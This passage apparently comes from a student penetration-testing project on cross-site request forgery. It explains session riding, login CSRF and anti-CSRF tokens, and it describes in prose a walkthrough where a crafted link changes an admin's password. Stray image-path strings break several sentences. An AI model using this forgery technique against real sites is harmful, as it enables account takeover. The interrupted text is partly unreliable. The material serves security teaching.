in a site would afford. To protect against manipulation of a user on the victim site,
there was validation by the application an actual image wasreturned.
Unfortunately, attackers simply submitted an image, at some point in time, and
then utilized a redirect to site closer to, or at the time of use by the victim.
Essentially, the basis of CSRF attacks revolve around the attacker riding
the malicious users session, and with the http cookie being the only check method
of the users session, the session can be ridden very deeply by the attacker.
Obviously, a user needs to be logged in to perform the powerful task the attacker
hopes to accomplish. Authentication is key with CSRF attacks, but it Is not
necessarily the user that needs to be logged in under their own account. For
example, consider an application that allows a user to upload files of their
choosing, and download them at their convenience. In the realm of CSRF, an attack
wouldnt cause a user authenticated as themselves to download a file that the
attacker uploaded, or force an upload of a file for the attacker to download. More
realistically, an attacker could instead craft a URL that logs the victim in under the
attackers credentials. The logical step for the attacker is to upload malicious
payloads and get the user to download them on the attackers behalf.
Defense against these one way attacks revolve around the heavy use of
anti CSRF tokens. These tokens are placed in hidden form fields and sent with the
request, along with the actual session cookie. They should not be easily brute
forced, despite many developers believing that the use of multiple tokens being
submitted throughout a session would not be subjugated to an attack. When an
attacker attempts a redirect, their parameters being supplied will not be sufficient
enough as they wont have any way of knowing the tokens linked in the users
session. Understanding how XSRF works, itis sufficient to say that a token

submitted to a user in a response, should not be identical during the next response
being sent by the user. If the attacker attempts a redirect and the token does not
change at certain points, the entire benefit of using the tokens is nullified. Many
developers mistakenly have relied on using the referrer header to check if the
request originated from the actual domain. At this point it should be understand
how pointless this check is, as it is trivially able to be spoofed in Burp.
The first step in executing an XSRF attack is to analyze the request URL. We can
see that when a user enters their password to change it, the function is built into
the URL parameter and can be changed via URL parameters.

Create really simple Click here button with the request built into the html.

Test the code

Communicate with the admin somehow. Notice the request is hidden in the link,
and the attacker knows the password will be changed to OWNED.


The admin gets password changed to OWNED.

This is a simple concept, and if the admin was paying attention, they would
probably change the password back to the old once before an attacker could
leverage an attack.The real damage is situations where things are more subtle, like
the adding of a new user, or the privledges of a regular user being updated. Also,
imagineif this type of forgery redirection was used not to change passwords, but to
submit funds transfers!

In conclusion, there is such a vast array of different attack vectors and
cross connecting technologies being used between applications and browser, and
therefore the securing of applications is a massive undertaking. There are many
more attacks and vulnerabilities that this project has not covered, but it the bread

and butter security flaws have been discussed in depth. This project should be
useful for beginners and intermediates alike, looking to improve, refresh, and
sharpen their penetration testing skills.

1. Stuttard,Dafydd, and Marcus Pinto. The Web Application Hacker's Handbook:Discovering and Exploiting SecurityFlaws. Indianapolis, IN:Wiley Pub., 2008. Print.